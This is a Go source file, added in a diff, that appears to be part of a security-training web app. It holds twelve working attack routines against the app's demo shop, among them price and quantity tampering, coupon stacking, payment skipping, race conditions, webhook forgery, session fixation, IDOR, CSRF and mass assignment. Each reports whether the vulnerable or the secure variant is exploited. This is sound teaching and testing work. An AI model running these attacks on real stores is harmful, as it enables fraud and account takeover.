@@ -0,0 +1,553 @@
+package exploit
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"html"
+	"net/http"
+	"net/url"
+	"secure-webapp/gateway"
+	"secure-webapp/models"
+	"secure-webapp/scenario"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// Products from the demo catalog the attacks buy. The mouse has the most
+// stock, so attacks that only need some order use it.
+const (
+	mouse    = "2"
+	keyboard = "3"
+)
+
+// Attacks has one attack for every built-in scenario, in home page order
+var Attacks = []Attack{
+	{"Price Manipulation", "Add a mouse with the hidden price field set to 0.01 and check out", priceTampering},
+	{"Quantity Tampering", "Add -5 mice and check out", quantityTampering},
+	{"Currency Conversion", "Check out a mouse posting an exchange rate of 0.001", currencyRate},
+	{"Coupon Abuse", "Apply the single-use TAKE5 coupon three times and check out", couponStacking},
+	{"Order Processing", "Pay with a declined card, then post the confirmation ourselves", skipPayment},
+	{"Race Conditions", "Buy the last units of a product from several requests at once", raceLastUnits},
+	{"Webhook Forgery", "Post an unsigned charge.succeeded webhook for an unpaid order", forgeWebhook},
+	{"Session Fixation", "Hand a victim our session ID, let them sign in, then reuse the ID", fixSession},
+	{"Insecure Direct Object Reference", "Open another customer's order by its ID", readForeignOrder},
+	{"Cross-Site Request Forgery", "Post add-to-cart and checkout from another origin with the victim's cookies", forgeCheckout},
+	{"JSON API", "Add an item through the API with a price of 1 cent and place the order", apiClientPrice},
+	{"Mass Assignment", "Place an express order that sets its own status and total", massAssignOrder},
+}
+
+// shop is the path of a variant of a shop, e.g. "/vulnerable-price"
+func shop(v scenario.Variant, name string) string {
+	return "/" + string(v) + "-" + name
+}
+
+func apiPath(v scenario.Variant, path string) string {
+	return "/api/v1/" + string(v) + path
+}
+
+// textAfter returns the text between label and the next tag
+func textAfter(page, label string) (string, bool) {
+	i := strings.Index(page, label)
+	if i < 0 {
+		return "", false
+	}
+	text := page[i+len(label):]
+	if end := strings.IndexByte(text, '<'); end >= 0 {
+		text = text[:end]
+	}
+	return strings.TrimSpace(html.UnescapeString(text)), true
+}
+
+// moneyAfter parses the dollar amount shown after label, e.g. "-$5.00"
+func moneyAfter(page, label string) (models.Money, bool) {
+	text, ok := textAfter(page, label)
+	if !ok {
+		return models.Money{}, false
+	}
+	sign := ""
+	if strings.HasPrefix(text, "-") {
+		sign, text = "-", text[1:]
+	}
+	amount, err := models.ParseMoney(sign+strings.TrimPrefix(text, "$"), models.BaseCurrency)
+	return amount, err == nil
+}
+
+// visit runs a visitor's requests in order and stops at the first failure
+func visit(steps ...func() (Response, error)) (Response, error) {
+	var last Response
+	for _, step := range steps {
+		resp, err := step()
+		if err != nil {
+			return Response{}, err
+		}
+		last = resp
+	}
+	return last, nil
+}
+
+func get(c *Client, path string) func() (Response, error) {
+	return func() (Response, error) { return c.Get(path) }
+}
+
+func post(c *Client, path string, form url.Values) func() (Response, error) {
+	return func() (Response, error) { return c.Post(path, form) }
+}
+
+func randomSuffix() string {
+	b := make([]byte, 4)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+func priceTampering(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	path := shop(v, "price")
+	resp, err := visit(
+		get(c, path),
+		post(c, path+"/add-to-cart", url.Values{"product_id": {mouse}, "quantity": {"1"}, "price": {"0.01"}}),
+		post(c, path+"/checkout", nil),
+	)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	paid, ok := moneyAfter(resp.Body, "Total Paid:")
+	if !ok {
+		return blocked("checkout showed no total (%d)", resp.Status), nil
+	}
+	if paid.Amount == 1 {
+		return exploited("paid %s for a mouse", paid), nil
+	}
+	return blocked("paid %s for a mouse", paid), nil
+}
+
+func quantityTampering(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	path := shop(v, "quantity")
+	resp, err := visit(
+		get(c, path),
+		post(c, path+"/add-to-cart", url.Values{"product_id": {mouse}, "quantity": {"-5"}}),
+		post(c, path+"/checkout", nil),
+	)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	charged, ok := moneyAfter(resp.Body, "Charged:")
+	if !ok {
+		return blocked("no order was placed"), nil
+	}
+	if charged.Amount <= 0 {
+		return exploited("charged %s", charged), nil
+	}
+	return blocked("charged %s", charged), nil
+}
+
+func currencyRate(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	path := shop(v, "currency")
+	resp, err := visit(
+		get(c, path),
+		post(c, path+"/add-to-cart", url.Values{"product_id": {mouse}, "quantity": {"1"}}),
+		post(c, path+"/checkout", url.Values{"currency": {models.BaseCurrency}, "rate": {"0.001"}}),
+	)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	value, okValue := moneyAfter(resp.Body, "Order value:")
+	charged, okCharged := moneyAfter(resp.Body, "Total Charged:")
+	if !okValue || !okCharged {
+		return Finding{}, fmt.Errorf("checkout page shows no charged amount (%d)", resp.Status)
+	}
+	if charged.Cmp(value) < 0 {
+		return exploited("charged %s for a %s order", charged, value), nil
+	}
+	return blocked("charged %s for a %s order", charged, value), nil
+}
+
+func couponStacking(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	path := shop(v, "coupon")
+	apply := post(c, path+"/apply", url.Values{"code": {"TAKE5"}})
+	resp, err := visit(
+		get(c, path),
+		post(c, path+"/add-to-cart", url.Values{"product_id": {keyboard}, "quantity": {"1"}}),
+		apply, apply, apply,
+		post(c, path+"/checkout", nil),
+	)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	if _, ok := textAfter(resp.Body, "Order ID:"); !ok {
+		return Finding{}, fmt.Errorf("checkout did not place an order (%d %s)", resp.Status, resp.URL.Path)
+	}
+	discount, ok := moneyAfter(resp.Body, "Discount:")
+	if !ok {
+		return blocked("no discount at all"), nil
+	}
+	// TAKE5 is worth $5.00 once per customer
+	if discount.Amount > 500 {
+		return exploited("discount of %s from a $5.00 coupon", discount), nil
+	}
+	return blocked("discount of %s", discount), nil
+}
+
+// placeOrder checks out a mouse in the order shop and returns the order ID
+// from the payment page it lands on
+func placeOrder(c *Client, v scenario.Variant) (string, error) {
+	path := shop(v, "order")
+	resp, err := visit(
+		get(c, path),
+		post(c, path+"/add-to-cart", url.Values{"product_id": {mouse}, "quantity": {"1"}}),
+		post(c, path+"/checkout", nil),
+	)
+	if err != nil {
+		return "", err
+	}
+	orderID := resp.URL.Query().Get("order_id")
+	if orderID == "" {
+		return "", fmt.Errorf("checkout did not reach the payment page (%d %s)", resp.Status, resp.URL.Path)
+	}
+	return orderID, nil
+}
+
+// orderStatus reads an order's status off the order shop's result page
+func orderStatus(c *Client, v scenario.Variant, orderID string) (models.OrderStatus, error) {
+	resp, err := c.Get(shop(v, "order") + "/result?order_id=" + url.QueryEscape(orderID))
+	if err != nil {
+		return "", err
+	}
+	status, ok := textAfter(resp.Body, "Status:")
+	if !ok {
+		return "", fmt.Errorf("result page for order %s shows no status (%d)", orderID, resp.Status)
+	}
+	return models.OrderStatus(status), nil
+}
+
+func paidFinding(status models.OrderStatus) Finding {
+	if status == models.StatusPaid || status == models.StatusFulfilled {
+		return exploited("unpaid order is %s", status)
+	}
+	return blocked("order is %s", status)
+}
+
+func skipPayment(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	orderID, err := placeOrder(c, v)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	path := shop(v, "order")
+	order := url.Values{"order_id": {orderID}}
+	card := url.Values{"order_id": {orderID}, "card_number": {gateway.CardDecline}}
+	if _, err := visit(post(c, path+"/pay", card), post(c, path+"/confirm", order)); err != nil {
+		return Finding{}, err
+	}
+
+	status, err := orderStatus(c, v, orderID)
+	if err != nil {
+		return Finding{}, err
+	}
+	return paidFinding(status), nil
+}
+
+type apiProduct struct {
+	ID        string       `json:"id"`
+	Name      string       `json:"name"`
+	Price     models.Money `json:"price"`
+	Available int          `json:"available"`
+}
+
+func raceLastUnits(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	resp, err := c.Get(apiPath(v, "/products"))
+	if err != nil {
+		return Finding{}, err
+	}
+	var products []apiProduct
+	if err := json.Unmarshal([]byte(resp.Body), &products); err != nil {
+		return Finding{}, fmt.Errorf("reading the catalog: %w", err)
+	}
+
+	// The scarcest product in stock; every buyer asks for all of it, or for
+	// as much as a line may hold
+	var scarce apiProduct
+	for _, p := range products {
+		if p.Available > 0 && (scarce.ID == "" || p.Available < scarce.Available) {
+			scarce = p
+		}
+	}
+	if scarce.ID == "" {
+		return Finding{}, fmt.Errorf("nothing left in stock to race for")
+	}
+	quantity := min(scarce.Available, 10)
+	buyers := scarce.Available/quantity + 4
+
+	path := shop(v, "race")
+	if _, err := c.Get(path); err != nil {
+		return Finding{}, err
+	}
+	form := url.Values{"product_id": {scarce.ID}, "quantity": {strconv.Itoa(quantity)}}
+
+	var (
+		wg    sync.WaitGroup
+		mu    sync.Mutex
+		sold  int
+		first error
+	)
+	start := make(chan struct{})
+	for range buyers {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			<-start
+			resp, err := c.Post(path+"/buy", form)
+			mu.Lock()
+			defer mu.Unlock()
+			switch {
+			case err != nil:
+				first = err
+			case strings.Contains(resp.Body, "Purchase Complete"):
+				sold += quantity
+			}
+		}()
+	}
+	close(start)
+	wg.Wait()
+	if first != nil {
+		return Finding{}, first
+	}
+
+	if sold > scarce.Available {
+		return exploited("sold %d %s with %d in stock", sold, scarce.Name, scarce.Available), nil
+	}
+	return blocked("sold %d %s with %d in stock", sold, scarce.Name, scarce.Available), nil
+}
+
+func forgeWebhook(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	orderID, err := placeOrder(c, v)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	// Covers both receivers' payload shapes; the signature is made up
+	event, _ := json.Marshal(map[string]any{
+		"id":        "evt_" + randomSuffix(),
+		"type":      gateway.EventChargeSucceeded,
+		"charge_id": "ch_" + randomSuffix(),
+		"order_id":  orderID,
+		"status":    "paid",
+		"amount":    models.NewMoney(0, models.BaseCurrency),
+		"created":   time.Now().Unix(),
+	})
+	signature := http.Header{gateway.SignatureHeader: {fmt.Sprintf("t=%d,v1=%s", time.Now().Unix(), strings.Repeat("0", 64))}}
+	if _, err := c.JSON("POST", shop(v, "order")+"/webhook", string(event), signature); err != nil {
+		return Finding{}, err
+	}
+
+	status, err := orderStatus(c, v, orderID)
+	if err != nil {
+		return Finding{}, err
+	}
+	return paidFinding(status), nil
+}
+
+func fixSession(target string, v scenario.Variant) (Finding, error) {
+	attacker, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	victim, _ := NewClient(target)
+	username := "victim-" + randomSuffix()
+
+	// The vulnerable shop has its own demo session; the secure variant is the
+	// site's real session, signed into through /register
+	cookie, watch := "demo_session", "/vulnerable-session"
+	if v == scenario.Secure {
+		cookie, watch = "session_id", "/account"
+	}
+
+	// The attacker gets a session ID of their own...
+	if _, err := attacker.Get(shop(v, "session")); err != nil {
+		return Finding{}, err
+	}
+	sessionID := attacker.Cookie(cookie)
+	if sessionID == "" {
+		return Finding{}, fmt.Errorf("%s did not set a %s cookie", shop(v, "session"), cookie)
+	}
+
+	// ...gets the victim's browser to use it and waits for them to sign in
+	if v == scenario.Vulnerable {
+		_, err = visit(
+			get(victim, "/vulnerable-session?sid="+url.QueryEscape(sessionID)),
+			post(victim, "/vulnerable-session/login", url.Values{"username": {username}}),
+		)
+	} else {
+		victim.SetCookie(cookie, sessionID)
+		_, err = visit(
+			get(victim, "/register"),
+			post(victim, "/register", url.Values{"username": {username}, "password": {"correct-horse-battery"}}),
+		)
+	}
+	if err != nil {
+		return Finding{}, err
+	}
+
+	// ...then opens a page that shows who is signed in
+	resp, err := attacker.Get(watch)
+	if err != nil {
+		return Finding{}, err
+	}
+	if strings.Contains(resp.Body, "Signed in as <strong>"+username+"</strong>") {
+		return exploited("attacker's session is signed in as %s", username), nil
+	}
+	return blocked("attacker's session is not signed in as the victim"), nil
+}
+
+func readForeignOrder(target string, v scenario.Variant) (Finding, error) {
+	victim, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	attacker, _ := NewClient(target)
+
+	path := shop(v, "idor")
+	resp, err := visit(
+		get(victim, path),
+		post(victim, path+"/buy", url.Values{"product_id": {mouse}, "quantity": {"1"}}),
+	)
+	if err != nil {
+		return Finding{}, err
+	}
+	orderID := resp.URL.Query().Get("id")
+	if orderID == "" {
+		return Finding{}, fmt.Errorf("purchase did not lead to an order page (%d %s)", resp.Status, resp.URL.Path)
+	}
+
+	resp, err = attacker.Get(path + "/order?id=" + url.QueryEscape(orderID))
+	if err != nil {
+		return Finding{}, err
+	}
+	if resp.Status == http.StatusOK && strings.Contains(resp.Body, "Order "+orderID) {
+		return exploited("read order %s placed by another customer", orderID), nil
+	}
+	return blocked("order %s answered %d", orderID, resp.Status), nil
+}
+
+func forgeCheckout(target string, v scenario.Variant) (Finding, error) {
+	victim, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	path := shop(v, "order")
+	if _, err := victim.Get(path); err != nil {
+		return Finding{}, err
+	}
+
+	// The forms on the attacker's page, submitted by the victim's browser
+	const attackerOrigin = "http://attacker.example"
+	if _, err := victim.PostFrom(attackerOrigin, path+"/add-to-cart", url.Values{"product_id": {mouse}, "quantity": {"1"}}); err != nil {
+		return Finding{}, err
+	}
+	resp, err := victim.PostFrom(attackerOrigin, path+"/checkout", nil)
+	if err != nil {
+		return Finding{}, err
+	}
+
+	if orderID := resp.URL.Query().Get("order_id"); orderID != "" {
+		return exploited("forged checkout placed order %s", orderID), nil
+	}
+	return blocked("forged checkout answered %d", resp.Status), nil
+}
+
+type apiOrder struct {
+	ID     string             `json:"id"`
+	Status models.OrderStatus `json:"status"`
+	Total  models.Money       `json:"total"`
+}
+
+func apiClientPrice(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	item := `{"product_id": "` + mouse + `", "quantity": 1, "price": {"amount": 1, "currency": "USD"}}`
+	if _, err := c.JSON("POST", apiPath(v, "/cart/items"), item, nil); err != nil {
+		return Finding{}, err
+	}
+	resp, err := c.JSON("POST", apiPath(v, "/orders"), "", nil)
+	if err != nil {
+		return Finding{}, err
+	}
+	if resp.Status != http.StatusCreated {
+		return blocked("placing the order answered %d", resp.Status), nil
+	}
+
+	var order apiOrder
+	if err := json.Unmarshal([]byte(resp.Body), &order); err != nil {
+		return Finding{}, fmt.Errorf("reading the order: %w", err)
+	}
+	if order.Total.Amount == 1 {
+		return exploited("order %s totals %s", order.ID, order.Total), nil
+	}
+	return blocked("order %s totals %s", order.ID, order.Total), nil
+}
+
+// massAssignmentBodies name each variant's fields the way its request
+// format does, so only the extra fields differ from an honest order
+var massAssignmentBodies = map[scenario.Variant]string{
+	scenario.Vulnerable: `{"Items": [{"ProductID": "` + mouse + `", "Quantity": 1}], "Status": "fulfilled", "Total": {"amount": 0, "currency": "USD"}}`,
+	scenario.Secure:     `{"items": [{"product_id": "` + mouse + `", "quantity": 1}], "status": "fulfilled", "total": {"amount": 0, "currency": "USD"}}`,
+}
+
+func massAssignOrder(target string, v scenario.Variant) (Finding, error) {
+	c, err := NewClient(target)
+	if err != nil {
+		return Finding{}, err
+	}
+	resp, err := c.JSON("POST", apiPath(v, "/express-orders"), massAssignmentBodies[v], nil)
+	if err != nil {
+		return Finding{}, err
+	}
+	if resp.Status != http.StatusCreated {
+		return blocked("express order answered %d", resp.Status), nil
+	}
+
+	var order apiOrder
+	if err := json.Unmarshal([]byte(resp.Body), &order); err != nil {
+		return Finding{}, fmt.Errorf("reading the order: %w", err)
+	}
+	if order.Status == models.StatusFulfilled || order.Total.Amount == 0 {
+		return exploited("order %s is %s at %s", order.ID, order.Status, order.Total), nil
+	}
+	return blocked("order %s is %s at %s", order.ID, order.Status, order.Total), nil
+}